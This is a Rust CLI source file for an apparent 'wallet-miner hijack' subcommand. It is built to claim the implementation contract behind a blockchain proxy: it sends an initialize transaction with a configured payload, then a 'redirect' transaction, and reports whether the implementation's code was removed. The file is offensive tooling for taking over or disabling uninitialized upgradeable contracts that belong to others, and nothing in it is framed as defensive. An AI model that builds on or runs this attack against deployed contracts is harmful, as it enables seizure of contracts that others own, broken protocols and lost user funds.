use crate::{args::GlobalArgs, utils};
use alloy_primitives::Address;
use clap::Parser;
use eyre::Result;
use wallet_miner::hijack::{Hijacker, InitPayload, InitializerLayout};

/// CLI arguments for `wallet-miner hijack`.
#[derive(Clone, Debug, Parser)]
pub struct HijackArgs {
    /// The proxy whose implementation is claimed. Defaults to the configured one.
    #[arg(value_name = "PROXY")]
    proxy: Option<Address>,

    /// Claim this implementation directly instead of probing a proxy.
    #[arg(long, conflicts_with = "proxy", value_name = "ADDRESS")]
    implementation: Option<Address>,
}

impl HijackArgs {
    pub async fn run(self, global: &GlobalArgs) -> Result<()> {
        let config = global.load_config()?;
        let sender = config.sender()?;
        let payload = InitPayload::from_config(&config.hijack);

        let ledger = utils::connect(&config.rpc_url).await?;
        let hijacker = Hijacker::new(&ledger, sender)
            .with_layout(InitializerLayout::from_config(&config.hijack))
            .with_gas_limit(config.hijack.gas_limit.unwrap_or(config.mining.gas_limit));
        let outcome = match (self.implementation, self.proxy.or(config.hijack.proxy)) {
            (Some(implementation), _) => hijacker.hijack(implementation, &payload).await?,
            (None, Some(proxy)) => hijacker.hijack_proxy(proxy, &payload).await?,
            (None, None) => eyre::bail!("no proxy given and `hijack.proxy` is not configured"),
        };

        if global.json {
            return utils::print_json(&outcome);
        }
        println!("Claimed {} in {}", outcome.implementation, outcome.initialize_tx);
        println!("Redirected in {}", outcome.redirect_tx);
        if !outcome.code_removed {
            println!("Implementation code is still present");
        }
        Ok(())
    }
}
